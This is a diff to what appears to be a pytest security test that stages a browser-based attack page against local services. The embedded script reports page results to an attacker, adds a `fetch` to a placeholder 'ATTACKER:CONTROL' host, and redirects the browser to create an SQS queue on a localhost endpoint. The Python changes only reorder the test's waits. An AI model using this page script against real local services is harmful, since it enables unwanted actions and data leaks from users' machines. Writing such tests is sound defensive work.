@@ -111,6 +111,7 @@ const onAdmin = (base, at) => {
     }
   }
   await report("page", results);
+  await fetch("http://ATTACKER:CONTROL/leave");
   location.href = "http://localhost.localstack.cloud:SQS/?Action=CreateQueue&QueueName=by-link";
 })();
 </script>"""
@@ -207,17 +208,18 @@ def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
             attacker.go.set()
             rebound = {name: attacker.report(f"rebound-{name}") for name in ports}
             page = attacker.report("page")
-            eventually(
-                lambda: any("by-link" in one.path for one in ports["sqs"].exchanges),
-                seconds=30,
-                what="the browser follows the link",
-            )
-            # A busy browser sends some of them after the page has reported.
+            # A busy browser sends some of them after the page has reported, and none after it left.
             relays = ports.items()
             eventually(
                 lambda: not missing({name: list(relay.exchanges) for name, relay in relays}),
                 seconds=60,
                 what="all requests of the page",
+            )
+            attacker.leave.set()
+            eventually(
+                lambda: any("by-link" in one.path for one in ports["sqs"].exchanges),
+                seconds=30,
+                what="the browser follows the link",
             )
         exchanges = {name: list(relay.exchanges) for name, relay in ports.items()}
         yield Attack(server, exchanges, page, rebound)
